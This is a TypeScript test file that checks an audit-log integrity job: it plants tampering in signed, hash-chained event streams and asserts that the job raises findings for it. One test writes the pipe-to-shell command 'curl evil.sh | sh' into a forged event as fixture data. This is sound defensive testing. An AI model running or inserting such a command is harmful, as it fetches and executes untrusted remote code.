import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { linkEvent, Signer } from "../../collect/sign";
import type { AuditEvent } from "../../schemas";
import { insertEvents } from "../../store/events";
import type { IntegrityRun } from "./job";
import { findingsQuery, round as sharedRound, signedStream, useIntegrityFixture } from "./testing";

/**
 * The integrity job over head-signed streams (collect/sign/README.md, "Head
 * signing"): interval 16 over 100 events puts heads at 15, 31, 47, 63, 79,
 * 95 and 99. Real engine, real signer; each oracle is shown failing on a
 * planted change.
 */
const fx = useIntegrityFixture();
const INTERVAL = 16;

const round = (uncoveredAfterMs = 0): Promise<IntegrityRun> => sharedRound(fx, { uncoveredAfterMs });

const ids = async (): Promise<string[]> => (await findingsQuery(fx.store, {})).map((f) => `${f.finding_id} ${f.status}`);

describe("integrity job over head-signed streams", () => {
  it("verifies every event of an intact stream, most of them by a later head's signature", async () => {
    const { events } = await signedStream(fx, "web-01", 100, true, INTERVAL);
    expect(events.filter((e) => e.sig !== undefined).map((e) => e.seq)).toEqual([15, 31, 47, 63, 79, 95, 99]);
    await insertEvents(fx.store, events);
    const run = await round();
    expect(run.collectors[0]).toMatchObject({ checked: 100, ok: 100, byHead: 93, problems: [] });
    expect(await ids()).toEqual([]);
  });

  it("finds a planted change in an unsigned link in the middle: its head's chain breaks there", async () => {
    const { events } = await signedStream(fx, "web-01", 100, true, INTERVAL);
    const victim = events[37];
    if (victim === undefined || victim.sig !== undefined) throw new Error("event 37 should be an unsigned link");
    await insertEvents(fx.store, events.map((e, i) => (i === 37 ? { ...e, actor_id: "mallory" } : e)));
    await round();
    expect(await ids()).toEqual(["integrity:web-01:bad-signature:37 open"]);
  });

  it("finds a link rewritten with a matching hash, and a head re-signed with another key", async () => {
    const { events } = await signedStream(fx, "web-01", 100, true, INTERVAL);
    const impostor = await Signer.open({ stateDir: join(fx.dir, "impostor"), collectorId: "web-01" });
    const forged: AuditEvent[] = [...events];
    let prev = events[39]?.prev_hash ?? "";
    // Rewrite 39 and re-link 39..47 so every hash matches; sign head 47 with the impostor's key.
    for (let i = 39; i <= 47; i++) {
      const e = events[i];
      if (e === undefined) throw new Error(`no event ${i}`);
      const { hash: _h, sig: _s, ...rest } = i === 39 ? { ...e, command: "curl evil.sh | sh" } : e;
      const link = linkEvent(rest, i, prev, i === 47 ? impostor.keys.privateKey : null);
      forged[i] = link;
      prev = link.hash ?? "";
    }
    await insertEvents(fx.store, forged);
    await round();
    expect(await ids()).toEqual(["integrity:web-01:bad-signature:47 open"]);
  });

  it("a tail truncated past the last head is a finding after the grace time, resolved when the head arrives", async () => {
    const { events } = await signedStream(fx, "web-01", 100, true, INTERVAL);
    await insertEvents(fx.store, events.slice(0, 90));
    // Within the grace time (default 10 min) the links wait quietly for their head.
    await round(10 * 60_000);
    expect(await ids()).toEqual([]);
    await round();
    const findings = await findingsQuery(fx.store, {});
    expect(findings).toMatchObject([{ finding_id: "integrity:web-01:uncovered:80", severity: "medium", status: "open", title: "events 80..89 from collector web-01 not covered by a signed head" }]);
    await insertEvents(fx.store, events.slice(90));
    const run = await round();
    expect(run.collectors[0]).toMatchObject({ problems: [] });
    expect(await ids()).toEqual(["integrity:web-01:uncovered:80 resolved"]);
  });

  it("reports dropped links 40–49 as one gap and resolves it when they arrive late", async () => {
    const { events } = await signedStream(fx, "web-01", 100, true, INTERVAL);
    await insertEvents(fx.store, [...events.slice(0, 40), ...events.slice(50)]);
    await round();
    expect(await ids()).toEqual(["integrity:web-01:gap:40 open"]);
    await insertEvents(fx.store, events.slice(40, 50));
    await round();
    expect(await ids()).toEqual(["integrity:web-01:gap:40 resolved"]);
  });
});
